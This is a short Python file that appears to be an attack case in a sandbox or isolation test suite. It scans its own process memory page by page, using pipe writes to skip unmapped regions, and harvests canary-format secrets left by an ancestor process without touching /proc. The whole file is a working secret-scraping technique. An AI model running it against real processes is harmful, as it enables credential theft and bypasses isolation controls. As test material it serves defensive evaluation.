"""Search this process's memory for secrets of an ancestor, page by page and without /proc."""

ATTACK = {"stopped_by": ["values"]}
import ctypes
import fcntl
import os
import re

CANARY = re.compile(WORLD["canary"].encode() + b"[0-9a-f]{24}")
STEP, REACH = 1 << 16, 48 << 20
SET_PIPE_SIZE = 1031


def target(x):
    libc = ctypes.CDLL(None)
    libc.write.argtypes = (ctypes.c_int, ctypes.c_void_p, ctypes.c_size_t)
    read_end, write_end = os.pipe()
    fcntl.fcntl(write_end, SET_PIPE_SIZE, 2 * STEP)
    # An object, a block of malloc, a static type: where they are, more of their kind is.
    anchors = [id([]), ctypes.addressof(ctypes.create_string_buffer(1 << 12)), id(int), id(os.__dict__)]
    places = {place for anchor in anchors for place in range((anchor & -STEP) - REACH, (anchor & -STEP) + REACH, STEP)}
    found, seen, last = set(), 0, b""
    for place in sorted(places):
        # The kernel says EFAULT where no memory is, instead of a crash.
        count = libc.write(write_end, place, STEP)
        if count > 0:
            data = os.read(read_end, count)
            seen += count
            found.update(CANARY.findall(last[-64:] + data))
            last = data
    print(*(text.decode() for text in found))
    raise LookupError(f"no secret in {seen >> 20} MB")
